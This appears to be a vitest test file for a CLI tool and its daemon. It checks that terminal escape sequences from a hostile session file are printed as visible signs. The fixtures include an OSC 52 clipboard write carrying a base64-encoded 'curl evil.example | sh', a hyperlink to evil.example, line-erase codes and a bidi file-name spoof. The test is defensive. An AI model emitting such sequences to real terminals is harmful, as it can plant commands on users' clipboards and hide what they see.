// A cloned repo's tracked session file is anyone's text. Its model name and messages carry the
// sequences a hostile file would use on a terminal — write the clipboard (OSC 52), plant a link
// (OSC 8), set the title, erase the line above (CSI 2K, a bare CR, the C1 CSI) — and every command
// that prints them, as text or as --json, prints them as visible signs, never as the raw bytes.
import { describe, expect, it } from 'vitest';
import { visibleJson, visibleLine, visibleText } from '../../src/cli/shared/visible-text.js';
import { runCli } from '../support/run-cli-in-process.js';
import { waitFor } from '../support/wait-for.js';
import { makeDaemonRepo, messageLine, sessionId } from '../daemon/daemon-harness.js';

const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const LINK = '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\';
const TITLE = '\x1b]0;owned\x07';
const ERASE = '\x1b[1A\x1b[2K\r\x9b2K';
const HOSTILE_MODEL = `gpt-4o${CLIPBOARD}${TITLE}${ERASE}`;
const HOSTILE_MESSAGE = `Fix the build${LINK}${CLIPBOARD}${ERASE}\u202eexe.txt`;

/** ESC, BEL, CR and every other control a terminal obeys (tab and newline are text). */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function expectVisibleSafe(label: string, output: string): void {
  const found = RAW_CONTROL.exec(output);
  expect(
    found,
    `${label} printed the raw control U+${found?.[0].charCodeAt(0).toString(16).padStart(4, '0')}: ${JSON.stringify(output)}`,
  ).toBeNull();
  expect(output, label).not.toContain('\u202e');
}

describe('text from session files is made visible-safe before it reaches a terminal', { timeout: 120_000 }, () => {
  it('an escape is shown as signs: ESC as ␛, BEL as ␇, CR as ␍, C1 and bidi overrides as �; lines kept in text, not in a cell', () => {
    expect(visibleText(`a${CLIPBOARD}\nb\tc\r`)).toBe('a␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇\nb\tc␍');
    expect(visibleLine('a\nb\tc\x9b\u202e')).toBe('a␊b␉c\ufffd\ufffd');
    const json = visibleJson({ model: HOSTILE_MODEL });
    expectVisibleSafe('visibleJson', json);
    expect(JSON.parse(json)).toEqual({ model: HOSTILE_MODEL });
  });

  it('status, sessions, transcript, handoffs, top --once and ai-zen sessions (text and --json) print no raw ESC, BEL, CR or C1 from a hostile session file', async () => {
    const daemon = await makeDaemonRepo();
    try {
      const id = sessionId(7);
      await daemon.writeSession(id, { maxContextTokens: 100_000, model: HOSTILE_MODEL });
      await daemon.appendLines(id, messageLine('user', HOSTILE_MESSAGE), messageLine('assistant', `Done.${TITLE}${ERASE}`));
      await daemon.start();
      await waitFor(async () => (await daemon.status()).sessions.some((session) => session.id === id), {
        timeoutMs: 30_000,
        message: 'the daemon to list the hostile session',
      });

      const commands: { label: string; run: () => Promise<{ code: number | null; stdout: string; stderr: string }> }[] = [
        { label: 'status', run: () => daemon.daemon(['status']) },
        { label: 'status --json', run: () => daemon.daemon(['status', '--json']) },
        { label: 'sessions', run: () => daemon.daemon(['sessions']) },
        { label: 'sessions --json', run: () => daemon.daemon(['sessions', '--json']) },
        { label: 'transcript', run: () => daemon.daemon(['transcript', id.slice(0, 8)]) },
        { label: 'transcript --json', run: () => daemon.daemon(['transcript', id.slice(0, 8), '--json']) },
        { label: 'handoffs', run: () => daemon.daemon(['handoffs']) },
        { label: 'top --once', run: () => daemon.daemon(['top', '--once']) },
        { label: 'ai-zen sessions', run: () => runCli(['sessions'], { cwd: daemon.root, env: daemon.env }) },
        { label: 'ai-zen sessions --json', run: () => runCli(['sessions', '--json'], { cwd: daemon.root, env: daemon.env }) },
      ];
      const outputs = new Map<string, string>();
      for (const command of commands) {
        const result = await command.run();
        expect(result.code, `${command.label}: ${result.stderr}`).toBe(0);
        expectVisibleSafe(command.label, result.stdout);
        expectVisibleSafe(`${command.label} (stderr)`, result.stderr);
        outputs.set(command.label, result.stdout);
      }
      // What was hidden is now in sight: a person sees that the model name carries a clipboard write.
      expect(outputs.get('status')).toContain('gpt-4o␛]52;c;');
      expect(outputs.get('sessions')).toContain('gpt-4o␛]52;c;');
      expect(outputs.get('top --once')).toContain('00000007');
      expect(outputs.get('transcript')).toContain('Fix the build␛]8;;https://evil.example/');
      expect(outputs.get('ai-zen sessions')).toContain('gpt-4o␛]52;c;');
      // --json still says exactly what the file says.
      const transcript = JSON.parse(outputs.get('transcript --json')!) as { turns: { text: string }[] };
      expect(transcript.turns.map((turn) => turn.text)).toContain(HOSTILE_MESSAGE);
    } finally {
      await daemon.cleanup();
    }
  });
});
